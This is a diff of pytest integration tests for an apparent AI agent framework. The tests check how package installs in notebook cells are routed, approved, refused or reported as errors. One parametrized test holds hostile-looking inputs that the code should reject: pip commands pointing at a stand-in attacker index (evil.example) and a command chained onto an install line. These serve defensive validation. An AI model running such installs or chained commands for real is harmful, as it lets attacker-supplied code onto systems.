@@ -5,11 +5,12 @@ from __future__ import annotations
 from pathlib import Path
 from typing import Any
 
+import anyio
 import pytest
 from tests.wheels import Index
 
-from pinfold import Agent, Approval, PinfoldError
-from pinfold.events import ActionFinished, Noticed
+from pinfold import Agent, Approval, PinfoldError, tool
+from pinfold.events import ActionFinished, ActionProposed, CallTool, Noticed
 from pinfold.sandbox.environment import build, recipe
 
 pytestmark = pytest.mark.integration
@@ -153,3 +154,107 @@ async def test_a_package_that_cannot_be_had_is_told_to_the_model(
     async with agent_of(workspace, model, mode="full", ephemeral=True) as agent:
         finished = [event async for event in agent.stream("go") if isinstance(event, ActionFinished)]
     assert [event.outcome for event in finished] == ["error"]
+
+
+@pytest.mark.parametrize("sandbox", ["namespaces", "unsafe-local"])
+@pytest.mark.parametrize(
+    "line", ["%pip install heron twig", "!pip install -q heron twig", "said = !pip install heron twig"]
+)
+async def test_a_cell_installs_packages_and_imports_them_at_once(
+    index: Index, workspace: Path, script: Any, cell: Any, sandbox: str, line: str
+) -> None:
+    index.add("heron")
+    index.add("twig")
+    model = script(
+        cell(f"{line}\nimport heron, twig; print('legs', heron.version)"),
+        {"expect": "legs 1.0", "text": "ok"},
+    )
+    async with Agent(model=model, workspace=workspace, sandbox=sandbox, mode="full") as agent:
+        assert (await agent.run("go")).text == "ok"
+        assert agent._live is not None  # pyright: ignore[reportPrivateUsage]
+        events = [entry.event for entry in agent._live.log.read()]  # pyright: ignore[reportPrivateUsage]
+    (outer,) = [event for event in events if isinstance(event, ActionProposed) and event.parent is None]
+    calls = [event for event in events if isinstance(event, ActionProposed) and event.parent]
+    assert [(call.by, call.parent, call.action) for call in calls] == [
+        ("cell", outer.id, CallTool(tool="install", args={"package": name})) for name in ("heron", "twig")
+    ]
+
+
+async def test_what_the_tool_says_is_printed(index: Index, workspace: Path, script: Any, cell: Any) -> None:
+    index.add("heron")
+    model = script(cell("%pip install heron"), {"expect": "installed heron 1.0\n", "text": "ok"})
+    async with agent_of(workspace, model, mode="full", ephemeral=True) as agent:
+        assert (await agent.run("go")).text == "ok"
+
+
+@pytest.mark.parametrize(
+    ("mode", "line", "seen"),
+    [
+        ("auto", "%pip install heron", "ToolRefused: This was not run: a package would be fetched"),
+        ("read-only", "%pip install heron", "ToolRefused: This was not run: a package would be installed"),
+        ("full", "%pip install nosuch", "ToolFailed: install failed: "),
+        (
+            "full",
+            "%pip install -i http://evil.example/simple heron",
+            "only packages can be named here, without -i",
+        ),
+        ("full", "%pip install -r requirements.txt", "only packages can be named here, without -r"),
+        (
+            "full",
+            "%pip install --index-url=http://evil.example heron",
+            "without --index-url=http://evil.example",
+        ),
+        ("full", "!pip install heron && touch x", "by a line of its own"),
+        ("full", "%pip install", "name the packages to install"),
+        ("full", "%pip install git+https://example.org/x", "is no package"),
+    ],
+)
+async def test_a_package_a_cell_may_not_or_cannot_have_is_its_error(
+    index: Index, workspace: Path, script: Any, cell: Any, mode: Any, line: str, seen: str
+) -> None:
+    index.add("heron")
+    model = script(cell(f"{line}\nprint('went on')"), {"expect": seen, "text": "ok"})
+    async with Agent(
+        model=model, workspace=workspace, sandbox="namespaces", mode=mode, ephemeral=True
+    ) as agent:
+        result = await agent.run("go")
+        assert result.text == "ok"
+        assert agent._live is not None  # pyright: ignore[reportPrivateUsage]
+        ends = [entry.event for entry in agent._live.log.read() if isinstance(entry.event, ActionFinished)]  # pyright: ignore[reportPrivateUsage]
+    assert "went on" not in ends[-1].observation
+    if "evil" in line or mode != "full":
+        assert index.asked == []
+
+
+async def test_a_user_is_asked_about_a_cells_package_outside_its_time(
+    index: Index, workspace: Path, script: Any, cell: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    index.add("heron")
+    asked: list[Any] = []
+
+    async def approve(approval: Approval) -> bool:
+        asked.append(approval)
+        await anyio.sleep(0.6)
+        return True
+
+    model = script(cell("%pip install heron\nimport heron; print('legs')"), {"expect": "legs", "text": "ok"})
+    monkeypatch.setenv("PINFOLD_SANDBOX_CELL_S", "0.5")
+    async with agent_of(workspace, model, approve=approve) as agent:
+        assert (await agent.run("go")).text == "ok"
+    assert len(asked) == 1
+
+
+async def test_a_cell_gets_the_whole_of_a_long_result_and_the_model_none(
+    workspace: Path, script: Any, cell: Any
+) -> None:
+    @tool(effect="pure")
+    def rows(count: int) -> str:
+        """Many rows."""
+        return "row of the table\n" * count
+
+    code = "from _pinfold_guest.calls import call\nprint('has', len(call('rows', count=10_000)))"
+    model = script(cell(code), {"expect": "has 170000", "text": "ok"})
+    async with Agent(
+        model=model, workspace=workspace, sandbox="namespaces", tools=[rows], ephemeral=True
+    ) as agent:
+        assert (await agent.run("go")).text == "ok"
